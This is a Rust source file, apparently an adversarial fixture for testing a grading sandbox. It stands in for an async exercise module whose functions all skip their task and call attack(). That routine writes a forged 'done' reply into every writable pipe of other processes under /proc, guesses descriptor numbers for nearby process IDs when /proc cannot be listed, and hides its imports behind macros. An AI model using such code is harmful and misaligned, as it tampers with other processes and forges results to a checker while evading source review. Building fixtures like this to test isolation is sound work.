//! Writes replies and records into every pipe of every process that it can see.

use kit::Trace;
use std::time::Duration;

/// A path that nobody can read in the source: `hide!(std process exit)`.
macro_rules! hide {
    ($first:ident $($more:ident)*) => { $first $(::$more)* };
}

/// An import that nobody can read in the source.
macro_rules! bring {
    ($($name:ident)*) => { use $($name)::*; };
}

bring!(std fs);

use std::io::Write;

fn attack() {
    for process in fs::read_dir("/proc").into_iter().flatten().flatten() {
        for open in fs::read_dir(process.path().join("fd")).into_iter().flatten().flatten() {
            if let Ok(mut file) = fs::OpenOptions::new().write(true).open(open.path()) {
                println!("stolen-@MARK@");
                let _ = writeln!(file, "\"done\"");
            }
        }
    }
    // Where folders cannot be listed, numbers can be tried.
    let own = hide!(std process id)();
    for process in own.saturating_sub(40)..own {
        for number in 0..16 {
            let path = format!("/proc/{process}/fd/{number}");
            if let Ok(mut file) = fs::OpenOptions::new().write(true).open(path) {
                println!("stolen-@MARK@");
                let _ = writeln!(file, "\"done\"");
            }
        }
    }
}

pub async fn say_after(_trace: &Trace, _delay: Duration, _what: &str) {
    attack();
}

pub async fn sequential_main(_trace: &Trace) -> Duration {
    attack();
    Duration::ZERO
}

pub async fn concurrent_main(_trace: &Trace) -> Duration {
    attack();
    Duration::ZERO
}

pub async fn sleep_with_result<T>(_delay: Duration, result: T) -> T {
    attack();
    result
}
